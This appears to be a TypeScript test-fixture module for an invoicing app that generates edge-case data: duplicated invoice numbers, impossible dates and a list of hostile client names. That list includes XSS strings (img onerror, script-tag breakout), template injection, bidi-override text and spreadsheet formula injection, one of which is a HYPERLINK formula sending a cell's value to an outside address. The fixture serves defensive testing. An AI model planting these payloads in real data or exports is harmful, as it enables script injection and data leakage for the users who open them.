/** What the options do to the books: rows that cannot be read, hostile names, doubled numbers. */
import { addDays, type Day } from '../clock';
import type { Config } from '../config';
import { idOf, linesFor, type Book, type Invoice } from './invoice';

const HOSTILE: readonly string[] = [
  '<img src=x onerror="window.__replicaPwned=1">',
  '"><script>window.__replicaPwned=1</script>',
  '\u202eTNEILC \u2066esrever\u2069',
  '{{ x }}',
  '{% for i in (1..9999) %}{{ i }}{% endfor %}',
  '=1+1',
  '=HYPERLINK("https://example.invalid/?"&A1,"ouvrir")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  'O\'Neil; "Fils", père\u00a0& Cie',
  '\u200bZéro\u200b largeur\ufeff',
  `${'Nom interminable '.repeat(600).slice(0, 9_999)}.`,
];

function hostile(book: Book, today: Day): Invoice[] {
  const named = HOSTILE.map((client, index): Invoice => {
    const cents = 10_000 + index * 111;
    return {
      ...{ id: idOf('hostile', index), number: `H-${String(index + 1).padStart(3, '0')}`, client },
      ...{
        email: `client${index + 1}@example.invalid`,
        deposit: false,
        status: 'unpaid',
        cents,
        currency: 'EUR',
      },
      issued: addDays(today, -1 - (index % 3)),
      due: addDays(today, index % 4 === 3 ? 5 : -1 - (index % 3)),
      ...{ creditedCents: 0, lines: linesFor(cents, index), transmission: 0 },
    };
  });
  return [...named, ...book.invoices];
}

/** Two invoices with one number, of different clients and amounts: the late one is the copy. */
function doubled(invoices: readonly Invoice[], today: Day): Invoice[] {
  const at = invoices.findIndex((invoice) => invoice.number !== '' && invoice.status === 'unpaid');
  const original = invoices[at];
  if (original === undefined) return [...invoices];
  const copy: Invoice = {
    ...original,
    ...{ id: idOf('doubled', 0), client: 'Doublon & Cie', email: 'compta@doublon.example' },
    ...{ cents: original.cents + 4_321, issued: addDays(today, -20), due: addDays(today, -20) },
    ...{ lines: linesFor(original.cents + 4_321, 1) },
  };
  return [...invoices.slice(0, at + 1), copy, ...invoices.slice(at + 1)];
}

/** Breaks one unpaid invoice for each asked field, leaving the first two (the seed's) as they are. */
function broken(invoices: readonly Invoice[], what: Config['broken'], today: Day): Invoice[] {
  const open = invoices.filter((invoice) => invoice.status === 'unpaid').slice(2);
  const kinds = new Map([...what].map((kind, index) => [open[index]?.id, kind]));
  return invoices.map((invoice) => {
    const kind = kinds.get(invoice.id);
    if (kind === undefined) return invoice;
    return kind === 'date'
      ? { ...invoice, broken: kind, due: `${today.slice(0, 4)}-02-31` }
      : { ...invoice, broken: kind };
  });
}

/** The book as the options want it. */
export function withVariants(book: Book, options: Config, today: Day): Book {
  let invoices: readonly Invoice[] = options.empty ? [] : book.invoices;
  if (options.hostile) invoices = hostile(book, today);
  if (options.duplicates) invoices = doubled(invoices, today);
  if (options.broken.size > 0) invoices = broken(invoices, options.broken, today);
  return { ...book, invoices, creditNotes: options.empty ? [] : book.creditNotes };
}
